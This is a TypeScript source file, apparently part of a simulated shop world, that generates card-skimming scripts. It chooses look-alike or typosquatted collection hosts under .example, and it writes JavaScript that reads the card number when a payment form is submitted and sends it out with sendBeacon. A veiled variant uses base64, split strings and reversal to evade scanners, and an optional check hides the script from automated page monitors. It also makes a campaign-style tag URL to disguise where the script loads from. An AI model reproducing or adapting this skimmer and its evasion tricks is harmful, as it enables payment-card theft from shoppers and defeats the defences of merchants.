import { range, type StreamId } from '../world/draw.ts'
import { COUNTER_HOST } from '../world/shop-scripts.ts'
import type { World } from '../world/types.ts'

/**
 * Hosts a crew may rent, by how hard they are to tell from a partner: unlike, look-alike, a
 * neighbour of the counter.
 */
const HOSTS: readonly (readonly string[])[] = [
  ['cdn-stat.example', 'px-gather.example', 'static-metrics.example', 'fontcache.example'],
  ['count.visit1og.example', 'chat.he1pful.example', 'js.paynorfh.example', 'stars.te11us.example'],
  [
    'eu3.visitlog.example',
    'n17.visitlog.example',
    'sync.visitlog.example',
    'edge.visitlog.example',
  ],
]

/** A host of the kind that fits the stealth, which nobody has yet; null when all are taken. */
export function rentedHost(
  world: World,
  stealth: number,
  stream: StreamId,
  run: number,
): string | null {
  const offers = HOSTS[stealth < 0.3 ? 0 : stealth < 0.65 ? 1 : 2]!
  const from = range(offers.length, world.config.seed, stream, run, 1)
  for (let i = 0; i < offers.length; i++) {
    const host = offers[(from + i) % offers.length]!
    if (!world.shop.hosts.some((one) => one.host === host)) return host
  }
  return null
}

/**
 * The program: on sending the payment form it takes the card field and sends it off, in `permille`
 * of cases. Below stealth 0.4 it is written plainly; above, every word that a scanner would look
 * for is put together at run time. A wary one keeps still in a browser that is driven by a program,
 * as a page monitor's is.
 */
export function skimmer(host: string, permille: number, stealth: number, wary = false): string {
  const share = (permille / 1000).toFixed(2)
  const guard = wary ? '  if (navigator.webdriver) return;\n' : ''
  return stealth < 0.4 ? plain(host, share, guard) : veiled(host, share, guard)
}
function plain(host: string, share: string, guard: string): string {
  return `(function () {
${guard}  var form = document.querySelector('form[data-pay]');
  if (!form) return;
  form.addEventListener('submit', function () {
    if (Math.random() >= ${share}) return;
    var number = form.elements.card.value.replace(/\\D/g, '');
    navigator.sendBeacon('https://${host}/collect', new URLSearchParams({ v: number }));
  });
})();
`
}
function veiled(host: string, share: string, guard: string): string {
  const address = btoa(`https://${host}/collect`)
  return `(function () {
${guard}  var u = atob('${address}');
  var f = document.querySelector('form[data-' + 'pay]');
  if (!f) return;
  f.addEventListener(['sub', 'mit'].join(''), function () {
    if (Math.random() >= ${share}) return;
    var q = f.elements['ca' + 'rd'].value.replace(/\\D/g, '').split('').reverse().join('');
    navigator.sendBeacon(u, new URLSearchParams({ v: btoa(q) }));
  });
})();
`
}
/** Address under which a tag manager would load it: one campaign more among the counter's. */
export function tagAddress(number: number): string {
  return `https://${COUNTER_HOST}/campaign-${number}.js`
}
